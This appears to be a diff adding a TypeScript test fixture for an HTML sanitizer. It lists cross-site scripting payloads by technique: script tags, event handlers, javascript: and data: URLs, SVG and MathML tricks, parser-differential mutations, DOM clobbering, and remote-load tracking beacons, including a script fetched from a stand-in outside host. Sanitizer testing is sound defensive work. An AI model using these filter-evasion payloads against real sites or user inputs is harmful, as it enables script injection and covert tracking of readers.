@@ -1,0 +1,158 @@
+/**
+ * HTML that runs a script (always `alert`) or loads something from elsewhere when it is shown as it is, one
+ * technique each. Written after the OWASP XSS Filter Evasion Cheat Sheet's classes and the HTML standard.
+ */
+const scripts = [
+  '<script>alert(1)</script>',
+  '<SCRIPT\n>alert(1)</SCRIPT >',
+  '<script/src="data:text/javascript,alert(1)"></script>',
+  '<script type="module">alert(1)</script>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<<script>alert(1)//<</script>',
+  '<script>/*<!-- <script> */alert(1)/* </script> --></script>',
+  '<script src="https://script.outside.example/a.js"></script>',
+  '<script xlink:href="data:,alert(1)">alert(1)</script>',
+  '<noscript><p title="</noscript><script>alert(1)</script>"></noscript>',
+];
+
+const handlers = [
+  '<img src=x onerror=alert(1)>',
+  '<img src=x:x OnErRoR="alert(1)">',
+  '<img/src=x/onerror=alert(1)>',
+  '<img src=x\tonerror\n=\ralert(1)>',
+  '<img src="x" onerror="&#97;lert(1)">',
+  '<img src="x" onerror="&#x61;&#x6c;ert&lpar;1&rpar;">',
+  '<img src=x onerror=`alert(1)`; onerror=alert(1)>',
+  '<img """><img src=x onerror=alert(1)>">',
+  '<img alt="<x" title="/><img src=x onerror=alert(1)>">',
+  '<body onload=alert(1)>',
+  '<body onpageshow=alert(1)>',
+  '<video><source src=x onerror=alert(1)></video>',
+  '<video src=x onerror=alert(1)></video>',
+  '<audio src=x onerror=alert(1)></audio>',
+  '<object data=x:x onerror=alert(1)></object>',
+  '<input autofocus onfocus=alert(1)>',
+  '<textarea autofocus onfocus=alert(1)></textarea>',
+  '<select autofocus onfocus=alert(1)></select>',
+  '<a href="#x" tabindex=1 autofocus onfocus=alert(1)>x</a>',
+  '<details open ontoggle=alert(1)><summary>x</summary></details>',
+  '<marquee onstart=alert(1)>x</marquee>',
+  '<div style="width:9px;animation:none" onmouseover=alert(1) onpointerenter=alert(1)>wide words to point at</div>',
+  '<style>@keyframes k{from{opacity:0}}</style><b style="animation:k 1ms" onanimationstart=alert(1)>x</b>',
+  '<link rel=stylesheet href=x:x onerror=alert(1)>',
+  '<iframe onload=alert(1)></iframe>',
+  '<embed src=x:x onerror=alert(1) onload=alert(1)>',
+  '<style onload=alert(1)></style>',
+];
+
+const addresses = [
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="java&#10;script:alert(1)">x</a>',
+  '<a href=" &#14; javascript:alert(1)">x</a>',
+  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
+  '<a href="vbscript:alert(1)">x</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '<area shape=default href="javascript:alert(1)">',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe src="javascript:parent.alert(1)"></iframe>',
+  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
+  '<iframe srcdoc="&lt;img src=x onerror=parent.alert(1)&gt;"></iframe>',
+  '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
+  '<object data="javascript:alert(1)"></object>',
+  '<object data="data:text/html,<script>alert(1)</script>"></object>',
+  '<embed src="javascript:alert(1)">',
+  "<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\">",
+  '<form action="javascript:alert(1)"><input type=submit autofocus></form>',
+  '<form id=f></form><button form=f formaction="javascript:alert(1)">x</button>',
+  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
+  '<meta http-equiv=refresh content="0;url=https://refresh.outside.example/">',
+  '<base href="javascript:alert(1)//"><a href=".">x</a>',
+  '<isindex action="javascript:alert(1)" type=image>',
+  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
+  '<math href="javascript:alert(1)">x</math>',
+];
+
+/** Vector graphics and formulas: other rules for parsing, and attributes of their own. */
+const foreignContent = [
+  '<svg onload=alert(1)></svg>',
+  '<svg/onload=alert(1)//',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><script>alert&#40;1&#41;</script></svg>',
+  '<svg><script href="data:,alert(1)"/></svg>',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
+  '<svg><set onbegin=alert(1) attributeName=x></svg>',
+  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
+  '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text y=20>x</text></a></svg>',
+  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=\'http://www.w3.org/2000/svg\'><image href=x:x onerror=alert(1) /></svg>#x"/></svg>',
+  '<svg><image href=x:x onerror=alert(1) /></svg>',
+  '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
+  '<svg><style><img src=x onerror=alert(1)></style></svg>',
+  '<svg><title><img src=x onerror=alert(1)></title></svg>',
+  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
+  '<math><maction actiontype="statusline#x" xlink:href="javascript:alert(1)">x</maction></math>',
+];
+
+/** What a filter and the browser parse in two different ways. */
+const parsedTwice = [
+  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
+  '<svg></p><style><a title="</style><img src=x onerror=alert(1)>">',
+  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
+  '<title><a title="</title><img src=x onerror=alert(1)>"></title>',
+  '<textarea><a title="</textarea><img src=x onerror=alert(1)>"></textarea>',
+  '<xmp><a title="</xmp><img src=x onerror=alert(1)>"></xmp>',
+  '<style><a title="</style><img src=x onerror=alert(1)>"></style>',
+  '<template><img src=x onerror=alert(1)></template><img src=x onerror=alert(1)>',
+  '<!--><img src=x onerror=alert(1)>-->',
+  '<!--a--!><img src=x onerror=alert(1)><!--b-->',
+  '<![CDATA[><img src=x onerror=alert(1)>]]>',
+  '<?x ><img src=x onerror=alert(1)>?>',
+  '</a <img src=x ><img src=x onerror=alert(1)>',
+  '<p id="a" id="><img src=x onerror=alert(1)>"><img src=x onerror=alert(1)>',
+  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
+  '&lt;script&gt;alert(1)&lt;/script&gt;<img src=x onerror=alert(1)>',
+  '<img src=x onerror\0=alert(1)><img src=x onerror=alert(1)>',
+];
+
+const names = [
+  '<form name=body><input name=appendChild></form><img name=querySelector src=x onerror=alert(1)>',
+  '<a id=document></a><a id=parent href="cid:x"></a><img src=x onerror=alert(1)>',
+];
+
+/** Nothing runs, but somebody elsewhere learns that the message was read. */
+const loads = [
+  '<img src="https://image.outside.example/a.png">',
+  '<img src="//protocol.outside.example/a.png">',
+  '<img srcset="https://srcset.outside.example/a.png 2x" src="cid:none">',
+  '<picture><source srcset="https://picture.outside.example/a.png"><img src="cid:none"></picture>',
+  '<p style="background:url(https://style.outside.example/a.png)">x</p>',
+  '<p style="background:u\\72l(https://escaped.outside.example/a.png)">x</p>',
+  '<p style="list-style-image:image-set(\'https://set.outside.example/a.png\' 1x)">x</p>',
+  '<style>@import "https://import.outside.example/a.css";</style>',
+  '<style>body{background:url(https://sheet.outside.example/a.png)}</style>',
+  '<style>@font-face{font-family:f;src:url(https://font.outside.example/f)}p{font-family:f}</style><p>x</p>',
+  '<link rel=stylesheet href="https://link.outside.example/a.css">',
+  '<link rel=prefetch href="https://prefetch.outside.example/a">',
+  '<link rel=icon href="https://icon.outside.example/a.png">',
+  '<table background="https://table.outside.example/a.png"><tr><td>x</td></tr></table>',
+  '<video poster="https://poster.outside.example/a.png" src="https://video.outside.example/a.mp4" autoplay></video>',
+  '<audio src="https://audio.outside.example/a.mp3" autoplay></audio>',
+  '<iframe src="https://frame.outside.example/"></iframe>',
+  '<object data="https://object.outside.example/a"></object>',
+  '<embed src="https://embed.outside.example/a">',
+  '<input type=image src="https://input.outside.example/a.png">',
+  '<svg><image href="https://svg.outside.example/a.png"/></svg>',
+  '<svg><filter id=f><feImage href="https://filter.outside.example/a.png"/></filter></svg>',
+  '<base href="https://base.outside.example/"><img src="a.png">',
+  '<body background="https://body.outside.example/a.png">',
+];
+
+export const htmlPayloads: string[] = [
+  ...scripts,
+  ...handlers,
+  ...addresses,
+  ...foreignContent,
+  ...parsedTwice,
+  ...names,
+  ...loads,
+];
